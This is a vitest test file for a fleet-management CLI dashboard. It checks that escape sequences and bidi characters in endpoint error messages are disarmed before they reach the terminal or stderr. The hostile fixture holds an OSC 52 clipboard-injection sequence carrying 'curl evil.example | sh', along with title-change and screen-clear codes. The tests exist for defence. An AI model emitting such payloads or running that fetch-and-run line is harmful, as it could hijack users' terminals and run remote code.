// Error messages are untrusted too: an endpoint that answers with escape sequences in its error text must not reach
// the real terminal (the raw byte stream from the pty is searched, not the emulated screen) nor stderr.
import {execFile} from 'node:child_process';
import {promisify} from 'node:util';
import {afterEach, describe, expect, it} from 'vitest';
import {CLI_PATH, useTuis} from '../helpers/pty-harness.js';
import {useLocalFleet} from '../helpers/local-fleet.js';
import {isolatedEnv} from '../../bench/lib/fleet-env.mjs';

const exec = promisify(execFile);
const spawn = useTuis();
const t = useLocalFleet({nodes: 12, seed: 'hostile-errors'});
afterEach(() => t.fleet.clearFaults());

const OSC52 = `\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`;
const TITLE = '\x1b]0;pwned-title\x07';
const CLEAR = '\x1b[2J';
const HOSTILE = `denied ${OSC52}${TITLE}${CLEAR}cleared \u202eevil\u2066`;

/** Nothing from the hostile message acts on a terminal: no OSC, no CSI clear, no BEL, no bidi control. */
function expectDisarmed(raw: string): void {
  expect(raw).not.toContain('\x1b]52');
  expect(raw).not.toContain('\x1b]0;');
  expect(raw).not.toContain(`${CLEAR}cleared`);
  expect(raw).not.toContain('\x07');
  expect(raw).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
}

const dashboard = () => spawn({args: [CLI_PATH, '--endpoint-url', t.fleet.endpoint], cols: 160, rows: 30,
  env: {...isolatedEnv('fd-hostile-'), ...t.env()}});

describe('hostile error messages in the dashboard', () => {
  it('the header shows a failing refresh disarmed (the view-sync path)', async () => {
    t.fleet.injectFault({kind: 'error', operation: 'DescribeInstanceInformation', errorCode: 'AccessDeniedException', message: HOSTILE});
    const tui = await dashboard();
    await tui.waitForText('not authorized (AccessDeniedException: denied', {description: 'the error in the header'});
    await tui.waitForIdle();
    expectDisarmed(tui.rawOutput());
    expect(tui.line(1)).toContain('denied ␛]52;c;'); // shown, as text
  });

  it("the side pane's inventory error is disarmed", async () => {
    const tui = await dashboard();
    await tui.waitFor((s) => /[im]i?-[0-9a-f]{17}/.test(s), {description: 'instance rows'});
    t.fleet.injectFault({kind: 'error', operation: 'ListInventoryEntries', errorCode: 'InternalServerError', message: HOSTILE});
    t.fleet.injectFault({kind: 'error', operation: 'GetInventory', errorCode: 'InternalServerError', message: HOSTILE});
    await tui.press('p');
    await tui.waitForText('Inventory denied', {description: 'the inventory error in the side pane'});
    await tui.waitForIdle();
    expectDisarmed(tui.rawOutput());
    expect(tui.screen()).toContain('Inventory denied ␛]52;c;');
  });
});

describe('hostile error messages from headless commands', () => {
  const cli = async (args: string[]) => {
    const env = {...process.env, ...t.env()} as Record<string, string>;
    delete env.CI;
    return exec(process.execPath, [CLI_PATH, ...args, '--endpoint-url', t.fleet.endpoint], {env})
      .then((r) => ({code: 0, stderr: r.stderr}), (e: {code: number; stderr: string}) => ({code: e.code, stderr: e.stderr}));
  };

  it('instances and run print the endpoint’s error sanitized on stderr', async () => {
    t.fleet.injectFault({kind: 'error', operation: 'DescribeInstanceInformation', errorCode: 'Evil\x1b[31mError', message: HOSTILE});
    const instances = await cli(['instances']);
    expect(instances.code).toBe(1);
    expect(instances.stderr).toContain('␛]52;c;');
    expectDisarmed(instances.stderr);
    expect(instances.stderr).not.toMatch(/\x1b/);

    const node = t.fleet.model.managed().find((n) => n.platformType === 'Linux' && n.pingStatus === 'Online');
    t.fleet.injectFault({kind: 'error', operation: 'SendCommand', errorCode: 'InvalidParameters', message: HOSTILE});
    const run = await cli(['run', '--targets', node?.instanceId ?? '', '--document', 'AWS-RunShellScript', '--parameter', 'commands=true']);
    expect(run.code).not.toBe(0);
    expect(run.stderr).toContain('denied ␛]52;c;');
    expect(run.stderr).not.toMatch(/\x1b/);
    expectDisarmed(run.stderr);
  });
});
